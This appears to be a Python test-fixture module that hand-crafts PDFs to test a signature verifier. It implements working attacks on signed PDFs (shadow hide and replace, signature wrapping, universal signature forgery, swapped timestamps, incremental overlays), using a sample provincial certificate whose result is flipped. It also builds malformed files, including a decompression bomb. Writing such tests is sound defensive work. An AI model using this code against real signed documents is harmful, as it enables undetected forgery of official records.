"""Crafted PDFs for the verifier tests: small documents written byte by byte, and the
attacks on signed ones (incremental saving, shadow hide/replace/hide-and-replace, signature
wrapping, universal signature forgery, copied timestamps, malformed files).

The documents are written by hand so that the attacks can place bytes exactly where the
published attacks place them (a second definition of an object hidden in the signed bytes,
a catalog nobody references, a form field over the result line ...).
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable

from asn1crypto import cms
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def text(line: str, y: int = 700, size: int = 18) -> bytes:
    return b"BT /F1 %d Tf 72 %d Td (%s) Tj ET" % (size, y, line.encode("latin-1"))


def build_pdf(
    objects: dict[int, bytes],
    *,
    shadow: tuple[tuple[int, bytes], ...] = (),
    root: int = 1,
) -> tuple[bytes, dict[int, int]]:
    """A PDF with a classic xref table for `objects` (number -> body). `shadow` objects are
    written first but left out of the xref: bytes inside the signed file that nothing uses
    (yet). Returns the file and the offset of every written object, shadows keyed by -num."""
    out = bytearray(HEADER)
    offsets: dict[int, int] = {}
    for num, body in shadow:
        offsets[-num] = len(out)
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    for num in sorted(objects):
        offsets[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    size = max(objects) + 1
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for num in range(1, size):
        if num in objects:
            out += b"%010d 00000 n \n" % offsets[num]
        else:
            out += b"0000000000 00000 f \n"
    out += (
        b"trailer\n<< /Size %d /Root %d 0 R /ID [<0123456789abcdef0123456789abcdef>"
        b" <0123456789abcdef0123456789abcdef>] >>\nstartxref\n%d\n%%%%EOF\n" % (size, root, xref_at)
    )
    return bytes(out), offsets


def result_document() -> bytes:
    """A one-page "procedure result": a title and a result line, in Helvetica."""
    content = text("UBND TINH DONG NAI - GIAY CHUNG NHAN", 760) + b"\n" + text("KET QUA: DAT", 700)
    pdf, _ = build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            4: stream(content),
            5: FONT,
        }
    )
    return pdf


COVER = b"1 1 1 rg 60 640 400 40 re f"  # a white box over the second line


def shadow_hide_document() -> tuple[bytes, int]:
    """Shadow "hide" preparation: the real result "KHONG DAT" (not passed) lies under a
    white box that shows nothing; the signer sees only the title. Object 6 (the box) also
    has a second, empty definition hidden earlier in the file. Returns the PDF and the
    offset of that hidden definition."""
    content = text("UBND TINH DONG NAI - GIAY CHUNG NHAN", 760) + b"\n" + text("KHONG DAT", 650)
    pdf, offsets = build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents [4 0 R 6 0 R] >>",
            4: stream(content),
            5: FONT,
            6: stream(COVER),
        },
        shadow=((6, stream(b"% nothing")),),
    )
    return pdf, offsets[-6]


def shadow_replace_document() -> bytes:
    """Shadow "replace" preparation: a read-only-looking text field sits on the result line
    and shows "DAT"; its value and appearance can be changed later by "form filling"."""
    ap = stream(
        b"/Tx BMC BT /F1 18 Tf 2 6 Td (KET QUA: DAT) Tj ET EMC",
        b"/Type /XObject /Subtype /Form /BBox [0 0 300 30] /Resources << /Font << /F1 5 0 R >> >> ",
    )
    pdf, _ = build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] "
            b"/DR << /Font << /F1 5 0 R >> >> /DA (/F1 18 Tf 0 g) >> >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R /Annots [6 0 R] >>",
            4: stream(text("UBND TINH DONG NAI - GIAY CHUNG NHAN", 760)),
            5: FONT,
            6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (ketqua) /V (KET QUA: DAT) "
            b"/Rect [70 690 370 720] /F 4 /P 3 0 R /DA (/F1 18 Tf 0 g) /AP << /N 7 0 R >> >>",
            7: ap,
        }
    )
    return pdf


def hide_and_replace_document() -> bytes:
    """Shadow "hide-and-replace" preparation: a complete second document (catalog 20, page
    tree 21, page 22) saying "KHONG DAT", in the xref but referenced by nothing. Both
    catalogs share the empty signature field the signer will fill, so the signature is
    still found once the trailer points at the second catalog."""
    field = b"<< /FT /Sig /T (Signature1) /Type /Annot /Subtype /Widget /Rect [0 0 0 0] /F 132 >>"
    pdf, _ = build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [30 0 R] >> >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            4: stream(text("KET QUA: DAT", 700)),
            5: FONT,
            20: b"<< /Type /Catalog /Pages 21 0 R /AcroForm << /Fields [30 0 R] >> >>",
            21: b"<< /Type /Pages /Kids [22 0 R] /Count 1 >>",
            22: b"<< /Type /Page /Parent 21 0 R /MediaBox [0 0 595 842] "
            b"/Resources << /Font << /F1 5 0 R >> >> /Contents 23 0 R >>",
            23: stream(text("KET QUA: KHONG DAT", 700)),
            30: field,
        }
    )
    return pdf


# -- incremental updates ----------------------------------------------------------------


def _last_startxref(pdf: bytes) -> int:
    return int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])


def raw_update(
    pdf: bytes,
    objects: dict[int, bytes] | None = None,
    *,
    point_at: dict[int, int] | None = None,
    root: int | None = None,
) -> bytes:
    """Appends an incremental update written by hand: `objects` written anew, and xref
    entries in `point_at` aimed at offsets already in the file (no new body)."""
    objects = objects or {}
    point_at = point_at or {}
    reader = PdfFileReader(io.BytesIO(pdf))
    size = int(reader.trailer["/Size"])
    root_ref = reader.trailer.raw_get("/Root")
    root_num = root if root is not None else root_ref.idnum
    out = bytearray(pdf if pdf.endswith(b"\n") else pdf + b"\n")
    entries: dict[int, int] = dict(point_at)
    for num in sorted(objects):
        entries[num] = len(out)
        out += b"%d 0 obj\n" % num + objects[num] + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for num in sorted(entries):
        out += b"%d 1\n%010d 00000 n \n" % (num, entries[num])
    doc_id = reader.trailer.raw_get("/ID")
    ids = b"".join(b"<%s>" % bytes(x.original_bytes).hex().encode() for x in doc_id)
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d /ID [%s] >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, max(entries, default=0) + 1),
        root_num,
        _last_startxref(pdf),
        ids,
        xref_at,
    )
    return bytes(out)


def writer_update(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """An incremental update made with pyHanko's own writer, as an attacker with ordinary
    tools would make it."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def first_page(
    writer: IncrementalPdfFileWriter,
) -> tuple[generic.IndirectObject, generic.DictionaryObject]:
    ref = writer.root["/Pages"]["/Kids"].raw_get(0)
    return ref, ref.get_object()


def add_text_to_page(pdf: bytes, line: str) -> bytes:
    """Incremental saving attack: new content drawn on the signed page."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        data = text(line, 600)
        stream_ref = writer.add_object(generic.StreamObject(stream_data=data))
        writer.add_stream_to_page(0, stream_ref)

    return writer_update(pdf, change)


def add_page(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        _ref, page = first_page(writer)
        content = writer.add_object(generic.StreamObject(stream_data=text("PHU LUC (added)", 700)))
        new_page = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Page"),
                generic.NameObject("/MediaBox"): page["/MediaBox"],
                generic.NameObject("/Resources"): page.raw_get("/Resources"),
                generic.NameObject("/Contents"): content,
            }
        )
        writer.insert_page(new_page)

    return writer_update(pdf, change)


def remove_last_page(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        pages = writer.root["/Pages"]
        kids = pages.raw_get("/Kids")
        pages[generic.NameObject("/Kids")] = generic.ArrayObject(list(kids)[:-1])
        pages[generic.NameObject("/Count")] = generic.NumberObject(len(kids) - 1)
        writer.update_container(pages)

    return writer_update(pdf, change)


def add_free_text_annotation(
    pdf: bytes, rect: tuple[int, int, int, int] = (60, 690, 360, 730)
) -> bytes:
    """An overlay comment with its own appearance, by default over the result line."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        page_ref, _page = first_page(writer)
        ap = generic.StreamObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/XObject"),
                generic.NameObject("/Subtype"): generic.NameObject("/Form"),
                generic.NameObject("/BBox"): generic.ArrayObject(
                    map(generic.NumberObject, (0, 0, 300, 40))
                ),
            },
            stream_data=b"1 1 1 rg 0 0 300 40 re f",
        )
        annot = generic.DictionaryObject(
            {
                generic.NameObject("/Type"): generic.NameObject("/Annot"),
                generic.NameObject("/Subtype"): generic.NameObject("/FreeText"),
                generic.NameObject("/Rect"): generic.ArrayObject(map(generic.NumberObject, rect)),
                generic.NameObject("/Contents"): generic.TextStringObject("note"),
                generic.NameObject("/DA"): generic.TextStringObject("/Helv 12 Tf 0 g"),
                generic.NameObject("/AP"): generic.DictionaryObject(
                    {generic.NameObject("/N"): writer.add_object(ap)}
                ),
            }
        )
        writer.register_annotation(page_ref, writer.add_object(annot))

    return writer_update(pdf, change)


def add_open_action(pdf: bytes) -> bytes:
    def change(writer: IncrementalPdfFileWriter) -> None:
        root = writer.root
        root[generic.NameObject("/OpenAction")] = generic.DictionaryObject(
            {
                generic.NameObject("/S"): generic.NameObject("/JavaScript"),
                generic.NameObject("/JS"): generic.TextStringObject("app.alert('x')"),
            }
        )
        writer.update_root()

    return writer_update(pdf, change)


def replace_font(pdf: bytes) -> bytes:
    """Shadow "replace via overwrite": the font object is redefined after signing."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        _ref, page = first_page(writer)
        font_ref = page["/Resources"]["/Font"].raw_get("/F1")
        font = font_ref.get_object()
        font[generic.NameObject("/BaseFont")] = generic.NameObject("/Courier")
        writer.mark_update(font_ref)

    return writer_update(pdf, change)


def fill_replace_field(pdf: bytes) -> bytes:
    """Shadow "replace": change the overlay field's value and appearance ("form filling")."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        field_ref = writer.root["/AcroForm"]["/Fields"].raw_get(0)
        field = field_ref.get_object()
        old_ap = field["/AP"].raw_get("/N").get_object()
        ap = generic.StreamObject(
            {k: v for k, v in old_ap.items() if k not in ("/Length", "/Filter")},
            stream_data=b"/Tx BMC BT /F1 18 Tf 2 6 Td (KET QUA: KHONG DAT) Tj ET EMC",
        )
        field[generic.NameObject("/V")] = generic.TextStringObject("KET QUA: KHONG DAT")
        field[generic.NameObject("/AP")] = generic.DictionaryObject(
            {generic.NameObject("/N"): writer.add_object(ap)}
        )
        writer.mark_update(field_ref)

    return writer_update(pdf, change)


def uncover(pdf: bytes) -> bytes:
    """Shadow "hide", the plain way: the covering box is emptied by a new object 6."""
    return raw_update(pdf, {6: stream(b"% nothing")})


def uncover_via_xref(pdf: bytes, hidden_offset: int) -> bytes:
    """Shadow "hide" via the cross-reference table: no new object at all, only an xref
    entry pointing object 6 at its empty twin already inside the signed bytes."""
    return raw_update(pdf, point_at={6: hidden_offset})


def switch_root(pdf: bytes) -> bytes:
    """Shadow "hide-and-replace": only a new trailer, pointing at the prepared catalog."""
    return raw_update(pdf, root=20)


def change_signature_field(pdf: bytes, field_name: str = "Signature1") -> bytes:
    """The signed field's dictionary is rewritten after signing (its widget hidden)."""

    def change(writer: IncrementalPdfFileWriter) -> None:
        for ref in writer.root["/AcroForm"].raw_get("/Fields"):
            field = ref.get_object()
            if field.get("/T") == field_name:
                field[generic.NameObject("/F")] = generic.NumberObject(2)  # hidden
                writer.mark_update(ref)

    return writer_update(pdf, change)


def rewrite_signature_dictionary(pdf: bytes) -> bytes:
    """The signature dictionary object itself is written again in a new revision, same
    values but a different /Reason: its /ByteRange no longer describes its own revision."""
    reader = PdfFileReader(io.BytesIO(pdf))
    sig = reader.embedded_signatures[0]
    ref = sig.sig_field.raw_get("/V")
    start = reader.xrefs[ref.reference]
    end = pdf.index(b"endobj", start)
    body = pdf[start:end]
    body = body[body.index(b"obj") + 3 :]
    body = body.replace(b"/Type /Sig", b"/Type /Sig /Reason (edited)", 1)
    return raw_update(pdf, {ref.idnum: body.strip()})


# -- byte-level edits of a signed file ----------------------------------------------------


def _signature_span(pdf: bytes, index: int = 0) -> tuple[int, int, list[int]]:
    """(start, end) of a signature's /Contents hex string, and its /ByteRange."""
    reader = PdfFileReader(io.BytesIO(pdf))
    sig = reader.embedded_signatures[index]
    byte_range = [int(x) for x in sig.byte_range]
    return byte_range[1], byte_range[2], byte_range


def _signature_key(pdf: bytes, key: bytes, index: int = 0) -> int:
    """Where `key` is written in a signature's dictionary object."""
    reader = PdfFileReader(io.BytesIO(pdf))
    ref = reader.embedded_signatures[index].sig_field.raw_get("/V")
    start = reader.xrefs[ref.reference]
    return pdf.index(key, start, pdf.index(b"endobj", pdf.index(b"/ByteRange", start)))


def tamper(pdf: bytes) -> bytes:
    """Flips one byte inside the range the first signature covers: in the middle of the
    biggest stream before its /Contents (the scan's pixels), so the file still parses and
    only the digests disagree."""
    byte_range = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
    assert byte_range is not None, "no signature in the PDF"
    covered_end = int(byte_range[2])
    streams = []
    for start in re.finditer(rb"stream\r?\n", pdf[:covered_end]):
        end = pdf.find(b"endstream", start.end(), covered_end)
        if end != -1:
            streams.append((end - start.end(), start.end()))
    assert streams, "no stream inside the signed range"
    length, offset = max(streams)
    at = offset + length // 2
    return pdf[:at] + bytes([pdf[at] ^ 0xFF]) + pdf[at + 1 :]


def flip_signed_byte(pdf: bytes, needle: bytes = b"KET QUA") -> bytes:
    """Tampering: one letter of the signed content changes (same length)."""
    at = pdf.index(needle)
    return pdf[:at] + b"L" + pdf[at + 1 :]


def usf_rename_contents(pdf: bytes) -> bytes:
    """Universal signature forgery: the signature dictionary has no /Contents."""
    key = _signature_key(pdf, b"/Contents")
    return pdf[:key] + b"/Cintents" + pdf[key + 9 :]


def usf_zero_contents(pdf: bytes) -> bytes:
    """Universal signature forgery: /Contents present but all zeros."""
    start, end, _ = _signature_span(pdf)
    return pdf[: start + 1] + b"0" * (end - start - 2) + pdf[end - 1 :]


def usf_remove_byte_range(pdf: bytes) -> bytes:
    key = _signature_key(pdf, b"/ByteRange")
    return pdf[:key] + b"/ByteRangX" + pdf[key + 10 :]


def _rewrite_byte_range(pdf: bytes, values: bytes) -> bytes:
    """Writes new /ByteRange numbers in place (signers pad the array with spaces)."""
    key = _signature_key(pdf, b"/ByteRange")
    open_at = pdf.index(b"[", key)
    end = pdf.index(b"]", open_at) + 1
    while pdf[end : end + 1] == b" ":
        end += 1
    replacement = b"[" + values + b"]"
    if len(replacement) > end - open_at:
        raise ValueError("replacement /ByteRange too long")
    return pdf[:open_at] + replacement.ljust(end - open_at) + pdf[end:]


def usf_null_byte_range(pdf: bytes) -> bytes:
    return _rewrite_byte_range(pdf, b"0 0 0 0")


def byte_range_outside_file(pdf: bytes) -> bytes:
    _start, _end, byte_range = _signature_span(pdf)
    return _rewrite_byte_range(pdf, b"0 %d %d 99999" % (byte_range[1], len(pdf)))


def signature_wrapping(pdf: bytes) -> bytes:
    """Signature wrapping: the signed second part is moved further down, malicious objects
    are put in the gap, and a new signature dictionary (same /Contents, new /ByteRange)
    replaces the old one, so the digest over the new byte range still matches."""
    reader = PdfFileReader(io.BytesIO(pdf))
    sig = reader.embedded_signatures[0]
    _zero, len1, start2, len2 = (int(x) for x in sig.byte_range)
    sig_ref = sig.sig_field.raw_get("/V")
    hole = pdf[len1:start2]
    part2 = pdf[start2 : start2 + len2]
    evil = b"\n99 0 obj\n" + stream(text("KET QUA: KHONG DAT (wrapped)", 600)) + b"\nendobj\n"
    new_sig_at = len1 + len(hole) + len(evil)
    sig_obj = (
        b"%d 0 obj\n<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached "
        b"/ByteRange [0 %d %%s %d] /Contents %s >>\nendobj\n" % (sig_ref.idnum, len1, len2, hole)
    )
    # The new start of part 2 depends on the length of the dictionary that names it.
    guess = new_sig_at + len(sig_obj % b"0000000000")
    new_sig = sig_obj % b"%010d" % guess
    moved_start = new_sig_at + len(new_sig)
    assert moved_start == guess
    body = pdf[:len1] + hole + evil + new_sig + part2
    shift = moved_start - start2
    # Objects of the signed revision that were in part 2 moved by `shift`.
    moved = {}
    for ref in reader.xrefs.explicit_refs_in_revision(sig.signed_revision):
        offset = reader.xrefs.get_historical_ref(ref, sig.signed_revision)
        if isinstance(offset, int) and offset >= start2:
            moved[ref.idnum] = offset + shift
    moved[sig_ref.idnum] = new_sig_at
    moved[99] = len1 + len(hole) + 1
    size = int(reader.trailer["/Size"])
    out = bytearray(body if body.endswith(b"\n") else body + b"\n")
    xref_at = len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for num in sorted(moved):
        out += b"%d 1\n%010d 00000 n \n" % (num, moved[num])
    doc_id = reader.trailer.raw_get("/ID")
    ids = b"".join(b"<%s>" % bytes(x.original_bytes).hex().encode() for x in doc_id)
    prev = _last_startxref(pdf) + shift
    root = reader.trailer.raw_get("/Root").idnum
    out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d /ID [%s] >>\nstartxref\n%d\n%%%%EOF\n" % (
        max(size, 100),
        root,
        prev,
        ids,
        xref_at,
    )
    return bytes(out)


def replace_cms(
    pdf: bytes, change: Callable[[cms.ContentInfo], cms.ContentInfo], index: int = 0
) -> bytes:
    """Rewrites the CMS object in a signature's /Contents gap (unsigned bytes), padded with
    zeros as signers do."""
    start, end, _ = _signature_span(pdf, index)
    raw = bytes.fromhex(pdf[start + 1 : end - 1].decode())
    info = cms.ContentInfo.load(raw)
    # asn1crypto keeps the original encoding; drop trailing zero padding first
    info = cms.ContentInfo.load(info.dump())
    new = change(info).dump(force=True)
    hex_new = new.hex().encode()
    width = end - start - 2
    if len(hex_new) > width:
        raise ValueError("the new CMS does not fit in the reserved /Contents")
    return pdf[: start + 1] + hex_new.ljust(width, b"0") + pdf[end - 1 :]


def signature_timestamp(pdf: bytes, index: int = 0) -> cms.ContentInfo:
    reader = PdfFileReader(io.BytesIO(pdf))
    signer_info = reader.embedded_signatures[index].signer_info
    for attr in signer_info["unsigned_attrs"]:
        if attr["type"].native == "signature_time_stamp_token":
            token: cms.ContentInfo = attr["values"][0]
            return token
    raise LookupError("no signature timestamp")


def with_timestamp(token: cms.ContentInfo) -> Callable[[cms.ContentInfo], cms.ContentInfo]:
    """Puts `token` in place of the signature's own timestamp."""

    def change(info: cms.ContentInfo) -> cms.ContentInfo:
        signer_info = info["content"]["signer_infos"][0]
        attrs = [
            a
            for a in signer_info["unsigned_attrs"]
            if a["type"].native != "signature_time_stamp_token"
        ]
        attrs.append(cms.CMSAttribute({"type": "signature_time_stamp_token", "values": [token]}))
        signer_info["unsigned_attrs"] = cms.CMSAttributes(attrs)
        return info

    return change


def with_digest_algorithm(oid: str) -> Callable[[cms.ContentInfo], cms.ContentInfo]:
    """Claims another digest algorithm for the document digest than the one used."""

    def change(info: cms.ContentInfo) -> cms.ContentInfo:
        signer_info = info["content"]["signer_infos"][0]
        signer_info["digest_algorithm"] = {"algorithm": oid}
        return info

    return change


# -- malformed files ----------------------------------------------------------------------


def truncated(pdf: bytes) -> bytes:
    return pdf[: len(pdf) // 2]


def garbage_with_header(size: int = 4096) -> bytes:
    import random

    rng = random.Random(7)
    return b"%PDF-1.7\n" + bytes(rng.randrange(256) for _ in range(size))


def huge_length() -> bytes:
    pdf, _ = build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            4: b"<< /Length 999999999999 >>\nstream\nBT ET\nendstream",
        }
    )
    return pdf


def compressed_bomb(decompressed_mib: int = 512) -> bytes:
    """An object stream that inflates to `decompressed_mib` MiB."""
    compressor = zlib.compressobj(9)
    chunk = b"\0" * (1 << 20)
    data = (
        b"".join(compressor.compress(chunk) for _ in range(decompressed_mib)) + compressor.flush()
    )
    pdf, _ = build_pdf(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            4: stream(data, b"/Filter /FlateDecode "),
        }
    )
    return pdf


def page_tree_cycle(signed: bytes) -> bytes:
    """An update after signing whose page tree contains itself."""
    return raw_update(signed, {2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"})
